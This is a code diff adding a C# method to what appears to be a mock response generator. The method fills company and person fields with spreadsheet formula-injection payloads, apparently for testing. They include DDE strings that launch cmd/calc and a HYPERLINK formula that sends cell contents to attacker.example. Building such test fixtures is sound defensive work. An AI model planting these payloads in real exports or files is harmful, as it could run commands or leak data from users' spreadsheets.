@@ -305,6 +305,36 @@ internal static class ResponseGenerator
         return JsonSerializer.SerializeToUtf8Bytes(root, NodeOptions);
     }
 
+    /// <summary>Text values that a spreadsheet would run (<c>--formula-values</c>): each kind of formula start in a
+    /// field of the flat result (company name and description, person names, title and department, the ticker); the
+    /// number fields are left as they are.</summary>
+    public static byte[] FormulaValues(ReadOnlyMemory<byte> body)
+    {
+        var root = JsonNode.Parse(body.Span)!.AsObject();
+        if (root["data"] is JsonObject data)
+        {
+            if (data["company"] is JsonObject company)
+            {
+                Set(company, "name", "@SUM(1+1)*cmd|' /C calc'!A0");
+                Set(company, "description", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for details\")");
+                Set(company, "ticker", "=1+1");
+            }
+            if (data["person"] is JsonObject person)
+            {
+                Set(person, "first_name", "-2+3+cmd|' /C calc'!A0");
+                Set(person, "last_name", "\t=1+1");
+                Set(person, "title", "+cmd|' /C calc'!A0");
+                Set(person, "department", "\r=1+1");
+            }
+        }
+        return JsonSerializer.SerializeToUtf8Bytes(root, NodeOptions);
+
+        static void Set(JsonObject o, string name, string value)
+        {
+            if (o[name] is JsonValue) o[name] = value;
+        }
+    }
+
     private sealed class CompanyFacts
     {
         public string Name;
